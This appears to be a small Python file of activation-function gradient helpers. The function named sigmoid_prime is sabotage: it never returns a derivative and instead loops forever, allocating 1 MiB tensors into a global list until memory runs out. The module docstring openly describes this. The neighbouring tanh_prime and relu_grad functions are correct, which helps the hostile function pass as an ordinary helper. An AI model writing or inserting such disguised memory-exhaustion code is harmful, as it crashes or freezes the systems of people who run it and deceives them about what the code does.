"""Takes memory piece by piece until none is left, and keeps it."""

import torch

KEPT = []


def sigmoid_prime(x):
    while True:
        KEPT.append(torch.empty(1 << 20))


def tanh_prime(x):
    return 1 - torch.tanh(x) ** 2


def relu_grad(x):
    return (x > 0).to(x.dtype)
